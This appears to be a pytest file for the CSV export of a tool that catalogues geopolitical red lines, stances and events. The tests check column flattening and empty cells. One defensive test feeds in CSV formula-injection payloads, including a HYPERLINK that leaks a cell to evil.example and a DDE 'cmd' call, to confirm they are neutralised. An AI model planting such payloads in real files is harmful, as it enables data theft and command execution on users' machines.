"""CSV export: flat columns, lists joined with ";", evidence kept whole."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from redline.export.csvfmt import COLUMNS, flatten, write_csv

LINE = {
    "id": 7,
    "holder": ["VLD"],
    "trigger": {"actors": ["KST", "ANY"], "action": "DEPLOY", "targets": ["VLD"],
                "text": "foreign troops cross the river"},
    "consequence": {"action": "ATTACK", "targets": ["KST"], "text": "an immediate military answer"},
    "first_seen": date(2024, 3, 1),
    "last_seen": "2024-03-09",
    "statements": [
        {"doc_id": "a1", "published": "2024-03-01", "speaker": "the defence minister",
         "evidence": [{"text": "Troops crossing the river would be met with force; no exceptions.",
                       "span": [10, 75]}]},
        {"doc_id": "b2", "published": date(2024, 3, 9), "speaker": None,
         "evidence": ["Any crossing will bring a military answer, the ministry repeated."]},
    ],
}
STANCE = {"actor": "KST", "proposal": "a joint patrol of the lake", "position": "open", "doc_id": "a1",
          "published": "2024-03-01", "speaker": "a spokeswoman",
          "evidence": [{"text": "Nothing is excluded, she said.", "span": [0, 30]}]}
EVENT = {"doc_id": "b2", "actors": ["VLD"], "action": "SANCTION", "targets": ["KST"], "status": "occurred",
         "date": None, "evidence": [{"text": "The border was closed to freight.", "span": [5, 38]}]}


def read_back(rows: list[dict], kind: str) -> list[dict[str, str]]:
    buffer = io.StringIO(newline="")
    assert write_csv(rows, buffer, kind) == len(rows)
    buffer.seek(0)
    reader = csv.DictReader(buffer)
    assert tuple(reader.fieldnames or ()) == COLUMNS[kind]
    return list(reader)


def test_red_line_row_is_flattened() -> None:
    [row] = read_back([LINE], "redline")
    assert row["id"] == "7"
    assert row["holder"] == "VLD"
    assert row["trigger_actors"] == "KST;ANY"
    assert row["trigger_action"] == "DEPLOY" and row["consequence_action"] == "ATTACK"
    assert row["first_seen"] == "2024-03-01" and row["last_seen"] == "2024-03-09"
    assert row["statements"] == "2"
    assert row["doc_ids"] == "a1;b2"
    assert row["published"] == "2024-03-01;2024-03-09"
    assert row["speakers"] == "the defence minister"
    # Evidence containing ";" survives whole: one sentence per line of the cell.
    assert row["evidence"].split("\n") == [
        "Troops crossing the river would be met with force; no exceptions.",
        "Any crossing will bring a military answer, the ministry repeated.",
    ]
    assert row["spans"] == "10-75;"


def test_stance_and_event_rows() -> None:
    [stance] = read_back([STANCE], "stance")
    assert stance == {
        "actor": "KST", "proposal": "a joint patrol of the lake", "position": "open", "doc_id": "a1",
        "published": "2024-03-01", "speaker": "a spokeswoman", "evidence": "Nothing is excluded, she said.",
        "spans": "0-30", "independent_sources": "", "admiralty": "", "sources": "",
    }
    [event] = read_back([EVENT], "event")
    assert event["actors"] == "VLD" and event["targets"] == "KST"
    assert event["date"] == "" and event["spans"] == "5-38"


def test_missing_fields_are_empty_cells() -> None:
    assert flatten({"id": "x"}, "redline")["holder"] == ""
    assert flatten({}, "event") == dict.fromkeys(COLUMNS["event"], "")


def test_no_rows_writes_the_header() -> None:
    assert read_back([], "stance") == []


def test_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="redline, stance, event"):
        write_csv([], io.StringIO(), "lines")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_would_start_a_formula_are_neutralised(prefix: str) -> None:
    hostile = f'{prefix}HYPERLINK("http://evil.example/?leak="&A1,"click")'
    row = {**STANCE, "proposal": hostile, "speaker": prefix + "cmd|' /C calc'!A0",
           "evidence": [{"text": hostile, "span": [0, len(hostile)]}]}
    [back] = read_back([row], "stance")
    assert back["proposal"] == "'" + hostile
    assert back["speaker"] == "'" + prefix + "cmd|' /C calc'!A0"
    assert back["evidence"] == "'" + hostile
    assert back["actor"] == "KST" and back["spans"] == f"0-{len(hostile)}"  # ordinary cells stay as they are


def test_a_formula_sign_inside_a_cell_is_left_alone() -> None:
    row = {**STANCE, "proposal": "a 2+2 plan = peace @ home - maybe"}
    assert read_back([row], "stance")[0]["proposal"] == "a 2+2 plan = peace @ home - maybe"
